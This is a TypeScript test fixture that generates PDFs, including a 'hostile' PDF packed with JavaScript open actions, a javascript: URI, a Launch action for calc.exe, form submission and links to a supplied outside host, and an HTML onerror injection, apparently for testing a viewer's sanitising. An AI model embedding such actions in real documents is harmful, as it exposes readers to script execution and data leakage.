/** Makes PDFs for tests: with text on as many pages as wanted, and with what a PDF must not get away with. */

type Options = {
  pages: string[]
  title?: string
  /** More entries of the catalogue, such as an action on opening. */
  catalog?: string
  /** Annotations of the first page. */
  annotations?: string
  /** More entries of the trailer. */
  trailer?: string
  objects?: string[]
}

export function makePdf({
  pages,
  title = 'A report',
  catalog = '',
  annotations = '',
  trailer = '',
  objects = [],
}: Options): Uint8Array {
  const first = 5
  const ids = pages.map((_, at) => first + at * 2)
  const made = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${ids.map((id) => `${id} 0 R`).join(' ')}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Title (${title}) /Author (An office) >>`,
    ...pages.flatMap((text, at) => {
      const drawn = `BT /F1 14 Tf 60 760 Td (${text.replaceAll(/[()\\]/g, '')}) Tj ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${first + at * 2 + 1} 0 R /Resources << /Font << /F1 3 0 R >> >> ${at === 0 && annotations ? `/Annots [${annotations}]` : ''} >>`,
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ]
    }),
    ...objects,
  ]
  let text = '%PDF-1.7\n'
  const offsets = made.map((body, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return offset
  })
  const start = text.length
  text += `xref\n0 ${made.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`
  text += `trailer\n<< /Size ${made.length + 1} /Root 1 0 R /Info 4 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF`
  return new TextEncoder().encode(text)
}

/** Scripts on opening and on links, addresses that run, a form, a file to launch. */
export function hostilePdf(outside: string): Uint8Array {
  const script = "app.alert\\('x'\\); this.broken = 1; app.launchURL\\('OUTSIDE/js'\\)".replace(
    'OUTSIDE',
    outside,
  )
  const link = (top: number, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [60 ${top} 300 ${top + 20}] /A << ${action} >> >>`
  return makePdf({
    title: 'A hostile report',
    pages: ['The text of the report stands here.', 'The second page.'],
    catalog: `/OpenAction << /S /JavaScript /JS (${script}) >> /AA << /WC << /S /JavaScript /JS (${script}) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >> /AcroForm << /XFA (<xdp:xdp/>) /Fields [] >>`,
    annotations: [
      link(700, `/S /URI /URI (javascript:window.broken=['pdf'])`),
      link(670, `/S /JavaScript /JS (${script})`),
      link(640, `/S /Launch /F (calc.exe)`),
      link(610, `/S /URI /URI (${outside}/page)`),
      link(580, `/S /SubmitForm /F (${outside}/form)`),
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 540 300 560] /AA << /F << /S /JavaScript /JS (${script}) >> >> >>`,
      `<< /Type /Annot /Subtype /FreeText /Rect [60 500 300 520] /Contents (<img src=x onerror="window.broken=1">) /RC (<body><img src="${outside}/rich.png" onerror="window.broken=1"/></body>) >>`,
    ].join(' '),
  })
}

/** Asks for a password, as nobody knows it. */
export function lockedPdf(): Uint8Array {
  const junk = 'ab'.repeat(32)
  return makePdf({
    pages: ['Locked'],
    trailer: `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${junk}> /U <${junk}> >> /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
  })
}
